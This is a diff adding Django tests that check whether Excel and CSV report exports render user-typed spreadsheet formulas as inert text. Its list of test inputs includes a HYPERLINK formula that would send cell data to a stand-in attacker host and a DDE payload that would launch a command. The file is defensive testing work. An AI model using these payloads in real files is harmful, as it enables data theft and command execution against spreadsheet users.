@@ -1,6 +1,7 @@
 """The page, the Excel file, the CSV and the PDF hold the same numbers, and all of them hide small groups."""
 
 import csv
+import datetime
 import html
 import io
 import re
@@ -173,3 +174,81 @@ def test_the_download_is_named_for_the_day_in_stockholm_not_on_the_server_clock(
     with mock.patch.object(timezone, "now", return_value=late):
         response = coordinator_client.get(reverse("reports:enrolment") + "?year=2025&format=csv")
     assert "2026-01-01.csv" in response["Content-Disposition"]
+
+
+# What people type into forms reaches the exports; a spreadsheet must show it, never run it.
+TYPED_FORMULAS = [
+    '=HYPERLINK("http://angripare.example/?d="&A1,"Klicka här")',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(A1:A9)",
+    "\t=1+1",
+    "\r=1+1",
+]
+
+
+def _needs_with_comments(records):
+    from courses.models import KnowledgeArea
+    from districts import clock
+    from reports import services
+    from reports.models import NeedPriority
+
+    period = services.needs_period_open(
+        organisation_id=records.organisation.pk,
+        title="Inför 2027",
+        opens_on=clock.today() - datetime.timedelta(days=1),
+        closes_on=clock.today() + datetime.timedelta(days=14),
+    )
+    areas = list(KnowledgeArea)
+    services.needs_report_submit(
+        period=period,
+        unit=records.unit_a,
+        submitted_by=None,
+        items={area.value: (NeedPriority.HIGH, text) for area, text in zip(areas, TYPED_FORMULAS, strict=False)},
+    )
+    return period
+
+
+def test_typed_formulas_arrive_in_excel_as_text_and_in_csv_behind_an_apostrophe(coordinator_client):
+    client = coordinator_client
+    period = _needs_with_comments(client.records)
+    url = reverse("reports:needs_summary", kwargs={"pk": period.pk})
+
+    response = client.get(url + "?format=xlsx")
+    assert response.status_code == 200  # the lazily translated priority labels used to answer 500
+    sheet = load_workbook(io.BytesIO(response.content)).active
+    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]
+    assert [cell.coordinate for cell in cells if cell.data_type == "f"] == []
+    typed = {text.replace("\r", "\n") for text in TYPED_FORMULAS}  # XML reads a lone CR as a line break
+    comments = {cell.value: cell for cell in cells if cell.value in typed}
+    assert set(comments) == typed
+    for cell in comments.values():
+        assert cell.data_type == "s" and cell.quotePrefix, cell.coordinate
+    high = next(row for row in sheet.iter_rows(values_only=True) if row[0] == "Samverkan")
+    assert high[1] == 1 and isinstance(high[1], int)  # numbers stay numbers
+
+    rows = _csv_rows(client.get(url + "?format=csv").content)
+    comment_cells = [row[4] for row in rows if len(row) == 5 and row[2] == "Barn och unga A"]
+    assert sorted(comment_cells) == sorted(f"'{text}" for text in TYPED_FORMULAS)
+    assert next(row for row in rows if row and row[0] == "Samverkan")[1] == "1"
+
+
+def test_a_survey_answer_that_looks_like_a_formula_is_text_in_every_export(coordinator_client):
+    from surveys import services as survey_services
+    from surveys.models import QuestionKind
+    from surveys.services import AnswerInput
+
+    client = coordinator_client
+    survey = client.records.survey
+    free_text = survey.template.questions.filter(kind=QuestionKind.FREE_TEXT).order_by("order").first()
+    invitation = survey.invitations.order_by("pk").first()
+    survey_services.response_submit(
+        token=invitation.token, answers=[AnswerInput(question_id=free_text.pk, text=TYPED_FORMULAS[0])]
+    )
+    url = reverse("reports:survey_result", kwargs={"pk": survey.pk})
+
+    sheet = load_workbook(io.BytesIO(client.get(url + "?format=xlsx").content)).active
+    answer = next(cell for row in sheet.iter_rows() for cell in row if cell.value == TYPED_FORMULAS[0])
+    assert answer.data_type == "s" and answer.quotePrefix
+    assert not [cell.coordinate for row in sheet.iter_rows() for cell in row if cell.data_type == "f"]
+    assert [f"'{TYPED_FORMULAS[0]}"] in _csv_rows(client.get(url + "?format=csv").content)
